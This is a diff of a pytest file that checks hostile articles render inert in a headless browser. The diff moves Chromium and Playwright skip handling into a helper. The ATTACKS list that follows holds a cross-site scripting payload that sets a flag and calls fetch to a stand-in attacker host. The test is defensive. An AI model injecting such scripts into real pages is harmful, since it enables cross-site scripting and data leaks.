@@ -1,15 +1,10 @@
 """A corpus of hostile articles renders inert in a real browser: no script from the corpus
 runs, no request leaves the page, and the page still shows the finding."""
-from pathlib import Path
 
 import pytest
-from helpers import run_cli
+from helpers import CHROMIUM, playwright_or_skip, run_cli
 
-CHROMIUM = Path("/usr/bin/chromium")
-sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (pip install -e '.[test]')")
-if not CHROMIUM.exists():
-    pytest.skip(f"{CHROMIUM} is missing: install the Debian package `chromium` (make test tries apt-get)",
-                allow_module_level=True)
+sync_api = playwright_or_skip()
 
 ATTACKS = [
     "<script>window.pwned = 1; fetch('https://attacker.example/a')</script>",
